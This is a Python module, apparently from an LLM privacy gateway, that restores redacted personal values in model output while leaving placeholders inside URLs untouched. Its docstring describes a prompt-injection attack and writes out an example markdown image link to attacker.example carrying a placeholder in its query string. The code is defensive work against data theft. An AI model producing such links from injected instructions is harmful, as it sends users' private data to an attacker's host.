"""Restoring outside links only: a placeholder inside a URL stays a placeholder.

A prompt injection can ask the model to write ``![](https://attacker.example/?q=<PERSON_1>)``; a
client that renders markdown would then send the restored value to that host. So text from a
``://`` (or ``(//``) to the end of the URL (white space or any character a URL cannot hold raw) is
passed through unrestored. The same character-by-character rule serves whole answers and streams,
so both give the same text.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

from gateway.privacy.restore import StreamRestorer

_LINK_START = re.compile(r"(?::|\()//")
# A URL ends at white space or at a character outside printable ASCII (full-width forms, which a
# model may use for a placeholder's brackets, count as part of it).
_LINK_END = re.compile(r"[^\x21-\x7e\uff01-\uff5e]")


class LinkAwareRestorer:
    """A `StreamRestorer` that leaves placeholders inside URLs as they are."""

    def __init__(self, vault: Mapping[str, str]) -> None:
        self._restorer = StreamRestorer(vault)
        self._in_link = False
        self._recent = ""  # the last two characters outside links, to see a link start split across deltas

    def feed(self, delta: str) -> str:
        """Take the next delta; return what can be released now."""
        out: list[str] = []
        while delta:
            if self._in_link:
                end = _LINK_END.search(delta)
                cut = end.start() if end else len(delta)
                out.append(delta[:cut])
                delta = delta[cut:]
                self._in_link = end is None
                continue
            seen = self._recent + delta
            start = _LINK_START.search(seen)
            if start is None:
                out.append(self._restorer.feed(delta))
                self._recent = seen[-2:]
                break
            cut = start.end() - len(self._recent)  # the link's text begins after "://"
            out.append(self._restorer.feed(delta[:cut]))
            out.append(self._restorer.flush())
            delta, self._in_link, self._recent = delta[cut:], True, ""
        return "".join(out)

    def flush(self) -> str:
        """End of the text: release whatever is held back."""
        self._in_link, self._recent = False, ""
        return self._restorer.flush()


def restore_outside_links(text: str, vault: Mapping[str, str]) -> str:
    """`text` with the vault's placeholders restored, except inside URLs."""
    restorer = LinkAwareRestorer(vault)
    return restorer.feed(text) + restorer.flush()
